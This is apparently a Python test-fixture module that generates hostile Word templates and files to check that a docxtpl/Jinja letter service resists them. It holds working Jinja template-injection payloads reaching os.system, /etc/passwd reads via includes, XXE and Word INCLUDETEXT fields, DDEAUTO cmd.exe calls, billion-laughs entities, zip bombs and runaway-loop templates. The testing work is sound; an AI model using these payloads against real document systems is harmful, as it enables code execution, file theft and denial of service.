"""Templates that try to run, fetch, swell or hang, each as the bytes of a file."""

import functools
import io
import zipfile
from collections.abc import Callable

import docx

from integration.letters.two_faced_templates import OFFICE, addresses_in_the_text, two_faced
from unit.letters.letter_samples import (
    PIXEL,
    saved,
    shipped,
    with_footnote,
    with_parts,
    with_relation,
    with_text_added,
    word_document,
)

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def runs(target: str) -> dict[str, str]:
    """Return Jinja code that makes a file when anything evaluates it, by the way it takes."""
    command = f"touch {target}"
    made = f"__import__('os').system('{command}')"
    return {
        "cycler": f"{{{{ cycler.__init__.__globals__.os.system('{command}') }}}}",
        "joiner": f"{{{{ joiner.__init__.__globals__.os.system('{command}') }}}}",
        "namespace": f"{{{{ namespace.__init__.__globals__.os.system('{command}') }}}}",
        "lipsum": f"{{{{ lipsum.__globals__['os'].system('{command}') }}}}",
        "self": f'{{{{ self.__init__.__globals__.__builtins__.eval("{made}") }}}}',
        "self-block": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os."
        f"system('{command}') }}}}",
        "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == "
        f"'Popen' %}}{{{{ c('{command}', shell=True) }}}}{{% endif %}}{{% endfor %}}",
        "attr-filter": "{{ cycler|attr('__init__')|attr('__globals__')|attr('get')('os')|"
        f"attr('system')('{command}') }}}}",
        "hex-names": r"{{ cycler['\x5f\x5finit\x5f\x5f']['\x5f\x5fglobals\x5f\x5f']['os']"
        f".system('{command}') }}}}",
        "joined-names": "{{ cycler[['__in','it__']|join].__globals__.os.system('"
        f"{command}') }}}}",
        "map-filter": "{{ [cycler]|map(attribute='__init__.__globals__.os')|map('string')|list }}",
        "format": "{{ '{0.__class__.__init__.__globals__}'.format(huurder) }}",
        "format-map": "{{ '{a.__class__}'.format_map({'a': huurder}) }}",
        "percent": "{{ '%(a)s' % {'a': cycler} }}",
        "set": f"{{% set x = cycler.__init__.__globals__.os.system('{command}') %}}",
        "if": f"{{% if cycler.__init__.__globals__.os.system('{command}') %}}x{{% endif %}}",
        "macro": f"{{% macro m() %}}{{{{ {made} }}}}{{% endmacro %}}{{{{ m() }}}}",
        "macro-caller": "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ "
        f"{made} }}}}{{% endcall %}}",
        "with": f"{{% with x = cycler.__init__.__globals__.os.system('{command}') %}}"
        "{% endwith %}",
        "filter-block": f"{{% filter upper %}}{{{{ {made} }}}}{{% endfilter %}}",
        "string-method": "{{ huurder.naamregel.__class__.__base__.__subclasses__() }}",
        "field-item": "{{ huurder['__class__'] }}",
        "generator": "{{ (x for x in huurder).gi_frame.f_globals }}",
        "include": "{% include '/etc/passwd' %}",
        "import": "{% import '/etc/passwd' as p %}{{ p }}",
        "extends": "{% extends '/etc/passwd' %}",
        "autoescape": "{% autoescape false %}{{ brief.kenmerk }}{% endautoescape %}",
        "clear": "{{ huurder.clear() }}",
    } | docxtpl_ways(target)


def docxtpl_ways(target: str) -> dict[str, str]:
    """Return what docxtpl itself can do: parts of other files, pictures, cells, loops."""
    return {
        "subdoc": "{{p doc.new_subdoc('/etc/passwd') }}",
        "subdoc-field": "{{p brief.kenmerk }}",
        "rich-text": "{{r RichText(cycler.__init__.__globals__.os.system('touch "
        f"{target}')) }}}}",
        "rich-field": "{{r brief.kenmerk }}",
        "inline-image": "{{ InlineImage(tpl, '/etc/passwd') }}",
        "cell-colour": f"{{% cellbg cycler.__init__.__globals__.os.system('touch {target}') %}}",
        "cell-colour-field": "{% cellbg brief.kenmerk %}",
        "cell-span": "{% colspan 10**9 %}",
        "merge-across": "{% hm %}",
        "merge-down": "{% vm %}",
        "paragraph-loop": "{%p for x in range(10**9) %}x{%p endfor %}",
        "row-loop": "{%tr for x in range(10**9) %}x{%tr endfor %}",
        "run-set": f"{{%r set x = cycler.__init__.__globals__.os.system('touch {target}') %}}",
    }


def hangs() -> dict[str, str]:
    """Return Jinja code that would take all time or memory."""
    return {
        "loop": "{% for x in range(10**9) %}x{% endfor %}",
        "nested-loop": "{% for x in range(99999) %}{% for y in range(99999) %}x{% endfor %}"
        "{% endfor %}",
        "power": "{{ 10 ** 10 ** 10 }}",
        "string": "{{ 'a' * 10 ** 10 }}",
        "format-width": "{{ '%9999999999d' % 1 }}",
        "recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "recursive-loop": "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "brackets": "{{" + "(" * 5000 + "brief.kenmerk" + ")" * 5000 + "}}",
        "nested-if": "{% if brief.kenmerk %}" * 500 + "x" + "{% endif %}" * 500,
        "long-and": "{% if " + "brief.kenmerk and " * 5000 + "brief.kenmerk %}x{% endif %}",
        "lorem": "{{ lipsum(100000) }}",
        "batch": "{{ brief.kenmerk|batch(10**9)|list }}",
        "center": "{{ brief.kenmerk|center(10**10) }}",
        "digits": "{{ " + "9" * 5000 + " }}",
        "raw": "{% raw %}{{ brief.kenmerk }}{% endraw %}",
        "braces-as-text": "{{ '{{' }}",
    }


PLACES: dict[str, Callable[[str], bytes]] = {
    "body": word_document,
    "header": lambda code: word_document(header=code),
    "footer": lambda code: word_document(footer=code),
    "footnote": lambda code: with_footnote(word_document(), escaped(code)),
    "comment": lambda code: with_comment(word_document(), escaped(code)),
    "property": lambda code: word_document(title=code),
}


def escaped(code: str) -> str:
    return code.replace("&", "&amp;").replace("<", "&lt;")


def with_comment(content: bytes, text: str) -> bytes:
    note = (
        '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:comment w:id="1"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:comment></w:comments>'
    )
    content = with_text_added(
        content,
        "[Content_Types].xml",
        f'<Override PartName="/word/comments.xml" ContentType="{WORD_TYPE}.comments+xml"/></Types>',
        instead_of="</Types>",
    )
    content = with_relation(content, f'Id="rIdC" Type="{OFFICE}/comments" Target="comments.xml"')
    return with_parts(content, {"word/comments.xml": note.encode()})


@functools.cache
def files(server: str) -> dict[str, bytes]:
    """Return files that are hostile by themselves.

    Args:
        server: an address that must not be asked for anything.
    """
    plain = shipped("uitnodiging.docx")
    return (
        {
            "no-zip": b"MZ" + bytes(100),
            "empty": b"",
            "cut-off": plain[:2000],
            "zip-bomb": bomb(200 * 1024 * 1024),
            "lying-zip": lying_zip(),
            "many-parts": with_parts(plain, {f"word/p{n}.xml": b"<a/>" for n in range(600)}),
            "twice-the-same-part": twice(plain),
            "billion-laughs": with_body_dtd(
                plain,
                '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
            ),
            "external-entity": with_body_dtd(
                plain, '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            ),
            "external-dtd": with_body_dtd(plain, f'<!DOCTYPE w SYSTEM "{server}/x.dtd">'),
            "dtd-in-relations": with_parts(
                plain,
                {
                    "word/_rels/document.xml.rels": b'<!DOCTYPE r SYSTEM "http://x.example/d">'
                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    b'relationships"/>'
                },
            ),
            "deep-xml": with_parts(plain, {"word/document.xml": b"<a>" * 5000 + b"</a>" * 5000}),
            "entities-in-another-encoding": with_body_dtd(
                plain, '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]>', encoding="utf-16"
            ),
            "entities-in-a-part-by-another-name": with_parts(
                with_text_added(
                    plain, "[Content_Types].xml", "/word/body.bin", instead_of="/word/document.xml"
                ),
                {"word/body.bin": b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]><w>&a;</w>'},
            ),
        }
        | two_faced(plain, with_word_field(['INCLUDETEXT "/etc/passwd"']))
        | addresses_in_the_text(plain, server)
        | linked_files(plain, server)
        | pictures(plain, server)
        | word_fields()
    )


def linked_files(plain: bytes, server: str) -> dict[str, bytes]:
    """Return documents that fetch or carry something that is no text."""
    relation = f'Target="{server}" TargetMode="External"'
    return {
        "linked-picture": with_relation(plain, f'Id="e1" Type="{OFFICE}/image" {relation}'),
        "linked-ole": with_relation(plain, f'Id="e2" Type="{OFFICE}/oleObject" {relation}'),
        "linked-frame": with_relation(plain, f'Id="e3" Type="{OFFICE}/frame" {relation}'),
        "script-link": with_relation(
            plain,
            f'Id="e4" Type="{OFFICE}/hyperlink" Target="javascript:x" TargetMode="External"',
        ),
        "file-link": with_relation(
            plain,
            f'Id="e5" Type="{OFFICE}/hyperlink" Target="file:///etc/passwd" TargetMode="External"',
        ),
        "alt-chunk": with_relation(plain, f'Id="e6" Type="{OFFICE}/aFChunk" Target="x.html"'),
        "macro-part": with_parts(plain, {"word/vbaProject.bin": b"x"}),
        "activex-part": with_parts(plain, {"word/activeX/activeX1.bin": b"x"}),
        "ole-part": with_parts(plain, {"word/embeddings/oleObject1.bin": b"x"}),
        "macro-type": with_text_added(
            plain,
            "[Content_Types].xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            instead_of=f"{WORD_TYPE}.document.main+xml",
        ),
        "remote-template": with_settings_relation(plain, f'Target="{server}/x.dotm"'),
        "template-on-a-share": with_settings_relation(plain, r'Target="\\\\192.0.2.1\\x.dotm"'),
        "mail-merge-source": with_relation(
            plain,
            f'Id="e7" Type="{OFFICE}/mailMergeSource" Target="file:///etc/passwd" '
            'TargetMode="External"',
        ),
        "sub-document": with_relation(
            plain, f'Id="e8" Type="{OFFICE}/subDocument" Target="x.docx"'
        ),
        "linked-film": with_relation(plain, f'Id="e9" Type="{OFFICE}/video" {relation}'),
        "spreadsheet-part": with_parts(plain, {"word/embeddings/Werkblad1.xlsx": b"PK"}),
    }


def pictures(plain: bytes, server: str) -> dict[str, bytes]:
    """Return documents whose picture is a program, lies about what it is, or swells."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{server}/x.png"/></svg>'.encode()
    large = PIXEL[:16] + (60_000).to_bytes(4, "big") * 2 + PIXEL[24:]
    return {
        f"picture-{name}": with_relation(
            with_parts(plain, {f"word/media/{name}": content}),
            f'Id="p1" Type="{OFFICE}/image" Target="media/{name}"',
        )
        for name, content in {
            "drawing.svg": svg,
            "drawing-that-lies.png": svg,
            "drawing.emf": b"\x01\0\0\0" + bytes(100),
            "drawing.wmf": b"\xd7\xcd\xc6\x9a" + bytes(100),
            "large.png": large,
        }.items()
    }


def word_fields() -> dict[str, bytes]:
    """Return documents with fields of Word that fetch, cut into pieces or in disguise."""
    codes = {
        "include-text": ['INCLUDETEXT "/etc/passwd"'],
        "include-picture": ['INCLUDEPICTURE "http://x.example/x.png"'],
        "dde": ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'],
        "dde-in-pieces": ["D", "DE", ' cmd "/k calc"'],
        "link": ["LINK Excel.Sheet.8 x.xls"],
        "database": ['DATABASE \\\\d "x.mdb"'],
        "quoted": ['"INCLUDETEXT" "/etc/passwd"'],
        "glued": ['INCLUDETEXT"/etc/passwd"'],
        "behind-a-mark": ['\u200bINCLUDETEXT "/etc/passwd"'],
        "with-a-comment": ['INCLUDE{# x #}TEXT "/etc/passwd"'],
        "under-a-condition": ["{% if brief.kenmerk %}INCLUDETEXT{% endif %} x"],
        "by-a-name": ["{{ huurder.naamregel }}"],
    }
    return {f"field-{name}": with_word_field(pieces) for name, pieces in codes.items()}


def bomb(size: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", b"<Types/>")
        package.writestr("word/document.xml", b" " * size)
    return target.getvalue()


def lying_zip() -> bytes:
    """Return a zip that says its part is small and unpacks to much more."""
    content = bytearray(bomb(100 * 1024 * 1024))
    central = content.rindex(b"PK\x01\x02")
    content[central + 24 : central + 28] = (100).to_bytes(4, "little")
    return bytes(content)


def twice(plain: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(target, "w") as package:
        for name in old.namelist():
            package.writestr(name, old.read(name))
        package.writestr("WORD/document.xml", old.read("word/document.xml"))
    return target.getvalue()


def with_body_dtd(plain: bytes, doctype: str, encoding: str = "utf-8") -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        body = package.read("word/document.xml").decode()
    _, _, rest = body.partition("?>")
    declared = f"<?xml version='1.0' encoding='{encoding}'?>{doctype}{rest}"
    return with_parts(plain, {"word/document.xml": declared.encode(encoding)})


def with_settings_relation(plain: bytes, target: str) -> bytes:
    """Return a document that says it was made from a template elsewhere."""
    relation = f'Id="t1" Type="{OFFICE}/attachedTemplate" {target} TargetMode="External"'
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"<Relationship {relation}/></Relationships>"
    )
    return with_parts(plain, {"word/_rels/settings.xml.rels": relations.encode()})


def with_word_field(pieces: list[str]) -> bytes:
    """Return the invitation with a field of Word whose code lies in these pieces."""
    document = docx.Document(io.BytesIO(shipped("uitnodiging.docx")))
    paragraph = document.add_paragraph()
    for kind in ("begin", *pieces, "end"):
        run = paragraph.add_run()._r  # noqa: SLF001 - no method to add a field
        if kind in ("begin", "end"):
            mark = docx.oxml.OxmlElement("w:fldChar")
            mark.set(docx.oxml.ns.qn("w:fldCharType"), kind)
        else:
            mark = docx.oxml.OxmlElement("w:instrText")
            mark.text = kind
        run.append(mark)
    return saved(document)
